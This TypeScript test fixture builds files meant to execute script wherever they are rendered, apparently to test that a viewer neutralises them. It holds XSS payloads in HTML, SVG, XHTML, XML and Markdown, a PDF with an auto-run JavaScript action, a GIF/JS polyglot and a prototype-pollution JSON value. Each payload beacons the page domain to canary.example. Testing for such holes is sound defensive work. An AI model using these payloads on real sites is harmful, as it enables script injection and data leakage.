/**
 * Files that try to run a script where they are shown. Each one that runs
 * sets `window.__ran` on whatever window it reaches, and asks a host that is
 * not ours; a journey looks for both.
 */
export interface HostileFile {
  name: string
  bytes: Uint8Array
}

const SCRIPT =
  "try{top.__ran=location.href}catch(e){}window.__ran=1;fetch('https://canary.example/'+document.domain)"

const IMG = `<img src=x onerror="${SCRIPT.replaceAll('"', "'")}">`

export function hostileFiles(): HostileFile[] {
  return Object.entries(TEXTS).map(([name, text]) => ({
    name,
    bytes: Buffer.from(text),
  }))
}

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="${SCRIPT}"><script>${SCRIPT}</script><foreignObject width="80" height="80"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${SCRIPT}"/></body></foreignObject><a href="javascript:${SCRIPT}"><rect width="80" height="80"/></a></svg>`

const HTML = `<!doctype html><html><body>${IMG}<script>${SCRIPT}</script><iframe srcdoc="<script>${SCRIPT}</script>"></iframe></body></html>`

const XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>${SCRIPT}</script></head><body/></html>`

const XML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl/%3E"?><root xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${SCRIPT}</h:script></root>`

const MARKDOWN = `# Notes

<script>${SCRIPT}</script>

${IMG}

[press](javascript:${SCRIPT.replaceAll(' ', '%20')}) and
![picture](https://canary.example/markdown.png "x")
<a href="data:text/html,<script>${SCRIPT}</script>">data</a>
<details open ontoggle="${SCRIPT}"><summary>more</summary></details>
<math><mtext><style><img src=x onerror="${SCRIPT}"></style></mtext></math>
`

const TEXTS: Record<string, string> = {
  'page.html': HTML,
  'page.txt': HTML,
  'page.xhtml': XHTML,
  'page.xml': XML,
  'picture.svg': SVG,
  'picture.png': SVG,
  'paper.pdf': pdf(SCRIPT),
  'notes.md': MARKDOWN,
  'polyglot.gif': `GIF89a/*${' '.repeat(8)}*/=1;${SCRIPT}//${HTML}`,
  'page.mp4': HTML,
  'names.json': `{"__proto__":{"ran":1},"html":${JSON.stringify(HTML)}}`,
}

/** A one-page PDF that opens with a script, and one in its only link. */
function pdf(script: string): string {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [5 0 R] >>',
    `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/gu, '\\$&')}) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (javascript:alert) >> >>',
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  const start = text.length
  text += `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`
  return `${text}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
}
